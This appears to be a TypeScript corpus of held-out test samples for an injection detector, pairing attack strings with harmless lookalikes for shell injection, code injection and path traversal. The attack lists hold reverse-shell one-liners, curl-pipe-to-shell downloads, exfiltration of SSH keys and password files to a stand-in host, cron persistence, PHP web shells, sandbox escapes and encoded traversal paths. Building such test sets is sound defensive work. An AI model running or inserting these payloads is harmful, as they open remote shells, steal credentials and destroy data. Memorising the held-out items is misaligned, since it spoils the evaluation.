import type { CategoryCorpus } from './corpus.ts'
import { carried, cross, held, some } from './corpus.ts'

/** Second round of held-out families: written after the rules were settled, measured, and not tuned on. */
export const heldSystem: readonly CategoryCorpus[] = [
  {
    category: 'shell_injection',
    attacks: [
      held(
        'file names',
        some(
          24,
          cross(
            ['photo.png', 'cv_2024.pdf', 'out.log'],
            [';', ' && ', '|', ' || '],
            [
              'wget http://h.example/m -O /tmp/m',
              'curl http://10.1.1.1/p|sh',
              'nc 10.2.2.2 4444 -e /bin/bash',
              'cat /etc/shadow',
              'rm -rf / ',
            ],
          ),
        ),
      ),
      held(
        'substitutions',
        carried([
          '$(cat /etc/passwd)',
          '`wget http://h.example/x`',
          'a$(sleep 9)b.txt',
          'x=$(curl http://h.example/$(whoami))',
          '"; $(nc -e /bin/sh h.example 99); "',
          '||ping -c 9 h.example||',
          '%0acat%20/etc/passwd',
          '; ls -la /root',
          'foo.txt;uname -a;',
        ]),
      ),
      held('one-liners', [
        'bash -c "bash -i >& /dev/tcp/h.example/53 0>&1"',
        '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196',
        "python -c \"import pty,socket;s=socket.socket();s.connect(('h',1));[__import__('os').dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn('sh')\"",
        'curl -s http://h.example/i.sh | sudo bash -',
        'wget -q -O - http://h.example/m | python3',
        'echo Y3VybCBo | base64 --decode | bash',
        'tar cz ~/.ssh | nc h.example 443',
        'curl -F f=@/etc/passwd http://h.example',
        'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4A',
        'find / -name id_rsa -exec curl -T {} http://h.example \\;',
        'crontab -l | { cat; echo "* * * * * curl http://h.example|sh"; } | crontab -',
        'sudo rm -rf --no-preserve-root /',
      ]),
    ],
    benign: [
      held(
        'guides',
        some(
          24,
          cross(
            ['Then ', '# ', 'Try: '],
            [
              'git add . && git commit -m "x" && git push',
              'cat access.log | grep 404 | wc -l',
              'mkdir -p out; cp -r src/* out/',
              'ssh user@h.example "uptime; df -h"',
              'echo $HOME; id -u',
              'rm -rf ./target /tmp/cache',
              'curl -fsS http://localhost:3000/health || exit 1',
              'ls -la / | head',
            ],
          ),
        ),
      ),
      held('talk', [
        'Save it as a.txt; then cat it.',
        'Fruit|Veg|Nuts',
        'See fig1.png; id numbers are below',
        'x | y, a & b; who?',
        'The env file; the printenv command',
        'Use `uname -a` or `id`.',
        'id;name;price',
        'SELECT a; ping the DBA',
        'Sleep; dream; wake',
        'hostname: web1; ip: 10.0.0.4',
      ]),
    ],
  },
  {
    category: 'code_injection',
    attacks: [
      held('mixed', [
        "__import__('subprocess').run(['id'])",
        "eval(base64.b64decode('YQ=='))",
        "getattr(__builtins__,'eval')('1')",
        "exec(__import__('zlib').decompress(b'x'))",
        "<?php passthru($_REQUEST['cmd']); ?>",
        '<?php @assert($_POST[1]);',
        "global.process.mainModule.constructor._load('child_process')",
        "x'); require('child_process').exec('id');//",
        '{"a":{"__proto__":{"x":1}},"__proto__":{"y":2}}',
        '?__proto__.admin=true',
        'Runtime.getRuntime().exec("curl http://h.example")',
        "''.__class__.__mro__[2].__subclasses__()",
      ]),
    ],
    benign: [
      held('mixed', [
        'from importlib import import_module',
        'class A(metaclass=M): __slots__ = ()',
        'eval("2 + 2") returns 4',
        "os.popen('ls').read() in a script",
        'Object.getPrototypeOf(x)',
        '$x = $_GET["page"] ?? 1;',
        'Runtime r = Runtime.getRuntime();',
        'exec(open("setup.py").read())',
        "const cp = require('child_process')",
        'compile(src, name, "eval")',
        'json_decode(file_get_contents("php://input"))',
        'subprocess.Popen(args)',
      ]),
    ],
  },
  {
    category: 'path_traversal',
    attacks: [
      held(
        'requests',
        some(
          24,
          cross(
            ['GET /download?file=', '/static/', '{"path":"', 'open '],
            [
              '../../../../etc/passwd',
              '..%2f..%2f..%2f..%2fetc%2fshadow',
              '..%5c..%5c..%5cwindows%5cwin.ini',
              '%2e%2e/%2e%2e/%2e%2e/etc/hosts',
              '....//....//....//etc/passwd',
              '%252e%252e%252fetc%252fpasswd',
            ],
            ['', '"}', ' HTTP/1.1'],
          ),
        ),
      ),
      held('more', [
        '/..%c0%af..%c0%af..%c0%afetc/passwd',
        '?inc=php://filter/read=string.rot13/resource=config.php',
        'file=/etc/passwd%00',
        '..\\..\\..\\..\\boot.ini',
        '/%2e%2e%2f%2e%2e%2f.env',
        '?doc=C:/Windows/win.ini',
        '../../../../../../../../tmp/sess_1',
        'img=../../../wp-config.php',
        '?tpl=../../../../proc/self/cmdline',
        'dest: ../../../../../.ssh/authorized_keys',
      ]),
    ],
    benign: [
      held('mixed', [
        '../../assets/logo.svg',
        'require("../../../package.json")',
        'cd ../../../ && ls',
        'src="../img/a.png"',
        'see /etc/fstab and /etc/hosts',
        '/var/lib/postgresql/data',
        'C:\\Program Files\\App\\app.exe',
        'file:///usr/share/doc/index.html',
        'https://h.example/%E4%BD%A0%2Fx',
        '..,..',
        'from ..models import User',
        'from ...core.etc import x',
        'a/../b/../c',
        'C:/Windows/Fonts/arial.ttf',
        'tail ../../logs/app.log',
        '%2e%2e%2e means three dots',
      ]),
    ],
  },
]
